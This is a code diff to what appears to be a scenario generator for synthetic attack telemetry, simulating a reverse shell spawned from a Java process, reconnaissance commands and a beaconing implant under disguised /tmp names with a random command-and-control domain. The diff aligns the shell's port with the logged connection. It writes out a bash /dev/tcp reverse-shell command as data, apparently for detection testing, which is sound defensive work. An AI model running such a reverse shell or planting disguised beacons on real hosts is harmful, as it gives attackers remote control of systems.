@@ -34,16 +34,18 @@ export default defineScenario({
     const c2Domain = `${rng.pick(["cdn", "update", "telemetry", "sync"])}-${rng.hex(5)}.${rng.pick(["xyz", "top", "online", "site"])}`;
     ctx.actor(victim.arn);
     let t = ctx.start;
+    const port = rng.pick([4444, 443, 8443, 9001]);
+    const shell = `bash -c bash -i >& /dev/tcp/${c2}/${port} 0>&1`;
     ctx.stage("execution", () => {
-      const shell = `bash -c bash -i >& /dev/tcp/${c2}/${rng.pick([4444, 443, 8443, 9001])} 0>&1`;
       host.run(t, shell, { user: "app", parent: "java" });
-      host.connect(t + 300, c2, 4444, { bytesOut: rng.int(2_000, 20_000), bytesIn: rng.int(1_000, 10_000), process: shell });
+      host.connect(t + 300, c2, port, { bytesOut: rng.int(2_000, 20_000), bytesIn: rng.int(1_000, 10_000), process: shell });
       host.run(t + rng.between(20, 120) * 1000, rng.pick(["id", "uname -a", "cat /etc/os-release"]), { parent: "bash" });
     });
     t += rng.between(60, 900) * 1000;
     ctx.stage("command-and-control", () => {
       const beacon = `/tmp/.cache/${rng.pick(["dbus", "sysupdate", "kthreadd"])} --interval 60`;
-      host.run(t, beacon, { parent: "bash" });
+      host.write(t, beacon.split(" ")[0]!, { process: shell });
+      host.run(t + 2000, beacon, { parent: "bash" });
       const { answers } = host.resolve(t + 500, c2Domain, { answers: [c2], process: beacon });
       // A jittered beacon about once a minute while the operator prepares the next step.
       const beacons = rng.int(60, 300);
